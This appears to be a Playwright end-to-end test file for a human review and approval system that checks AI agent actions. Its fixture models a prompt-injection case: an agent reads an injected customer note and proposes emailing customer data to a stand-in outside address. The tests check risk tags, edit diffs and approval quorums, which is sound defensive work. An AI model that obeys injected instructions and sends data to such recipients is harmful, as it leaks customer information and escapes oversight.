import { expect, test, type Page } from "@playwright/test";
import { proposeAction } from "@/lib/approvals/propose-action";
import { INJECTION_NOTE } from "@/lib/demo/seed";
import { actionRow, e2eDb, seedTenant, signInAs, type TestTenant } from "@/e2e/review/fixtures";

// The agent read the customer's note carrying the injected instruction and emails the address in it.
const EXFIL = { to: "audit-desk@exfil-mail.example", subject: "Customer list", body: "Acme Corporation 25,000.00", invoice_number: "INV-1046" };

async function proposeExfil(tenant: TestTenant): Promise<string> {
  const outcome = await proposeAction(e2eDb(), {
    tenantId: tenant.id, requester: tenant.requester, tool: "send_email", args: EXFIL, untrustedValues: [INJECTION_NOTE],
  });
  expect(outcome.state, JSON.stringify(outcome)).toBe("pending");
  return outcome.actionId;
}

async function edit(page: Page, args: Record<string, unknown>) {
  await page.getByRole("button", { name: "Edit", exact: true }).click();
  await page.getByLabel("Arguments (JSON)").fill(JSON.stringify(args));
  await page.getByRole("button", { name: "Save as new revision" }).click();
  await expect(page.getByRole("heading", { name: "Changes from revision 1" })).toBeVisible();
}

const riskTags = (page: Page) => page.getByRole("region", { name: /^Risk tags/ });
const tagItem = (page: Page, id: string) => riskTags(page).getByRole("listitem").filter({ hasText: id });

test.describe("tags survive edits", () => {
  test("a one-word subject edit keeps the `to` field's injection and provenance tags, and says no tag was removed", async ({ page }) => {
    const tenant = await seedTenant();
    const id = await proposeExfil(tenant);
    await signInAs(page, tenant.users.reviewer.email);
    await page.goto(`/actions/${id}`);
    const tagsBefore = await riskTags(page).getByRole("listitem").count();

    await edit(page, { ...EXFIL, subject: "Customer list Q4" });
    expect((await actionRow(id)).currentRevision).toBe(2);
    await expect(tagItem(page, "provenance.untrusted")).toContainText("· to");
    await expect(tagItem(page, "exfiltration.outside-recipient")).toContainText("· to");
    await expect(tagItem(page, "recipient.outside-domain")).toContainText("· to");
    await expect(riskTags(page).getByRole("listitem").filter({ hasText: "untrusted-input." }).first()).toBeVisible();
    await expect(riskTags(page).getByRole("listitem")).toHaveCount(tagsBefore);

    const removed = page.getByRole("note", { name: "Tags removed by this edit" });
    await expect(removed).toContainText("Tags removed by this edit (0)");
    await expect(removed).toContainText("every risk tag of revision 1 still applies");
    // The subject's change, word by word: the added word is marked as added.
    const diff = page.getByRole("table", { name: "Changes from revision 1 to 2" });
    await expect(diff.getByRole("row").filter({ hasText: "subject" }).locator("ins")).toHaveText(/^added:\s*Q4$/);
  });

  test("an edit that replaces the injected recipient lists the tags it removed, with their fields, above the diff", async ({ page }) => {
    const tenant = await seedTenant();
    const id = await proposeExfil(tenant);
    await signInAs(page, tenant.users.reviewer.email);
    await page.goto(`/actions/${id}`);

    await edit(page, { ...EXFIL, to: "finance@globex.example" });
    const removed = page.getByRole("note", { name: "Tags removed by this edit" });
    for (const tag of ["provenance.untrusted", "recipient.outside-domain", "exfiltration.outside-recipient"]) {
      await expect(removed.getByRole("listitem").filter({ hasText: tag })).toContainText("field to");
      await expect(tagItem(page, tag)).toHaveCount(0);
    }
    const diff = page.getByRole("table", { name: "Changes from revision 1 to 2" });
    const to = diff.getByRole("row").filter({ hasText: "to" }).filter({ hasText: "changed" });
    await expect(to.locator("del").filter({ hasText: "exfil" })).not.toHaveCount(0);
    await expect(to.locator("ins").filter({ hasText: "globex" })).not.toHaveCount(0);
    await expect(to.locator('[data-word-diff="before"]')).toContainText("exfil-mail.example");
    await expect(to.locator('[data-word-diff="after"]')).toContainText("globex.example");
    // The note sits at the top: before the agent's reason and the risk tags.
    const noteTop = (await removed.boundingBox())?.y ?? Infinity;
    const tagsTop = (await riskTags(page).boundingBox())?.y ?? -Infinity;
    expect(noteTop).toBeLessThan(tagsTop);
  });
});

test("with two reviewers, an edit of a two-approval action is refused in one line and the action stays as it was", async ({ page }) => {
  const tenant = await seedTenant();
  // Two reviewers left: the editor may not decide the revision they write, so one would remain for a quorum of two.
  await e2eDb().membership.update({ where: { tenantId_userId: { tenantId: tenant.id, userId: tenant.users.reviewer3.id } }, data: { roles: ["auditor"] } });
  const id = await proposeExfil(tenant);
  await signInAs(page, tenant.users.reviewer.email);
  await page.goto(`/actions/${id}`);
  await page.getByRole("button", { name: "Edit", exact: true }).click();
  await page.getByLabel("Arguments (JSON)").fill(JSON.stringify({ ...EXFIL, subject: "Customer list Q4" }));
  await page.getByRole("button", { name: "Save as new revision" }).click();
  await expect(page.getByText(/this edit needs 2 approvals and only 1 member other than you may decide it/)).toBeVisible();
  expect((await actionRow(id)).currentRevision).toBe(1);
});
